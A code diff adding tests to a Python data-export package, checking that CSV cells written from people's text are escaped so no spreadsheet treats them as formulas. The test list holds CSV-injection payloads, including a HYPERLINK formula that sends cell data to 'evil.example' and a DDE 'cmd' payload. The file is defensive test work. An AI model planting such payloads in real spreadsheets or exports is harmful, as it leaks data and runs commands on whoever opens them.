@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
+import decimal
 import hashlib
 import html
 import io
@@ -15,6 +17,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from kept import deployment
 from kept.controller import Controller
@@ -22,7 +26,7 @@ from kept.controls.evidence import Outcome
 from kept.controls.registry import registered
 from kept.controls.runner import run
 from kept.duties import rights
-from kept.duties.rights import Request
+from kept.duties.rights import Request, tables
 from kept.duties.rights.tables import NULL
 from kept.errors import Denied, UsageError
 from kept.terms.identifiers import parse
@@ -89,9 +93,8 @@ def _files(path: Path) -> dict[str, bytes]:
 
 
 def _bare(described: dict[str, Any], cell: str) -> str:
-    """As the description says: where its pattern matches, the first character goes."""
-    guard = described["guarded"]
-    return cell.removeprefix(guard["prefix"]) if re.match(guard["pattern"], cell) else cell
+    """As the description says: every match of its pattern goes."""
+    return re.sub(described["guarded"]["pattern"], "", cell)
 
 
 def _load(files: dict[str, bytes]) -> sqlite3.Connection:
@@ -120,6 +123,47 @@ def _load(files: dict[str, bytes]) -> sqlite3.Connection:
             database.execute(f'INSERT INTO "{one["name"]}" VALUES ({marks})', values)
     assert database.execute("PRAGMA foreign_key_check").fetchall() == []
     return database
+
+
+#: Texts of people of which a spreadsheet could make formulas, here or in another country.
+_FORMULAS = [
+    "=1+1", "+49 30 1", "-1+1|cmd", "@x", "\t=1", "\r=1", "\uff1d1", "\ufe621", "\u22121+1",
+    *(f"{skipped}=1" for skipped in "\x00\x0b\x0c \xa0\ufeff\u200b\u2028\x85\"'"),
+    'Ana;=HYPERLINK("http://evil.example/?"&A1);x', "x\";=cmd|' /C calc'!A0;\"", "plain;=1+1",
+    "a,=1", "a\t=1", "a|=1", "a\n=1", "a\r\n=1", "a; \xa0\"'=1", ";;=1", "'=1", "''=1",
+    "\\N", "'\\N",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("separator", ";,\t|")
+def test_no_spreadsheet_of_any_country_runs_what_people_wrote(separator: str) -> None:
+    out = io.StringIO()
+    columns = tables.Columns(("id", "text", "note"), None)
+    tables.write(lambda _: None, out, columns, [(1, text, "x") for text in _FORMULAS])
+    read = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=separator)
+    skipped = '\x00\x0b\x0c \t\r\n\xa0\ufeff\u200b\u2028\x85"'
+    begun = [cell.lstrip(skipped)[:1] for row in read for cell in row]
+    assert not {*"=+-@\uff1d\ufe62\u2212"} & set(begun)
+
+
+@pytest.mark.parametrize("text", [*_FORMULAS, "'\\N\n", "-5", "'-5", "a\n\nb", "1,-5"])
+def test_what_is_guarded_is_read_back_by_the_pattern_alone(text: str) -> None:
+    pattern = tables.GUARDED["pattern"]
+    assert tables.unguarded(tables.guarded(text)) == text
+    assert re.sub(pattern, "", tables.guarded(text)) == text
+
+
+@given(st.text(alphabet="'\"=+-;,|\t\r\n \x00\ufeff\\N1a", max_size=12))
+def test_nothing_is_lost_by_guarding(text: str) -> None:
+    assert tables.unguarded(tables.guarded(text)) == text
+    assert tables.guarded(text) != NULL
+
+
+def test_numbers_stay_numbers_and_bytes_and_spans_run_nothing() -> None:
+    values = (-5, -1.5e-7, decimal.Decimal("-1E+3"), True, None)
+    assert [tables.cell(v) for v in values] == ["-5", "-1.5e-07", "-1E+3", "true", NULL]
+    odd = (b"\xfb\xff", dt.timedelta(-1), float("-inf"))
+    assert [tables.cell(v)[:2] for v in odd] == ["'+", "'-", "'-"]
 
 
 def test_another_system_loads_it_by_its_schema(controller: Controller, tmp_path: Path) -> None:
